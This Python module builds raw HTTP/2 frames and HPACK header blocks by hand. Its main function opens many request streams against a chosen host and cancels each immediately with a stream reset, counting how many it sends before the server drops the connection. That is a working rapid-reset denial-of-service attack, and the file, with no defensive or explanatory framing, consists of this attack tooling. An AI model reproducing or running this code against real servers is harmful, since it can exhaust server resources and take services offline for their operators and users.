"""HTTP/2 by hand: frames that no library sends."""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import Iterator, Mapping
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_STREAM, ACKNOWLEDGED, END_HEADERS = 0x1, 0x1, 0x4
CANCEL: Final = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(headers: Mapping[str, str]) -> bytes:
    """Return headers as literals that no table remembers."""
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + _length(len(value)) + value.encode()
        for name, value in headers.items()
    )


def _length(length: int) -> bytes:
    if length < 127:
        return bytes([length])
    rest = length - 127
    encoded = [127]
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*encoded, rest])


@contextlib.contextmanager
def connection(target: str) -> Iterator[socket.socket]:
    """Open a connection on which requests may be sent."""
    host, _, port = target.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=30) as opened:
        opened.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACKNOWLEDGED, 0, b""))
        yield opened


def open_and_reset(opened: socket.socket, streams: int, headers: Mapping[str, str]) -> int:
    """Open streams and reset each at once; return how many were sent until the peer hung up."""
    block = header_block(headers)
    for number in range(streams):
        stream = 2 * number + 1
        request = frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        try:
            opened.sendall(request + frame(RESET, 0, stream, CANCEL))
        except OSError:
            return number
    return streams
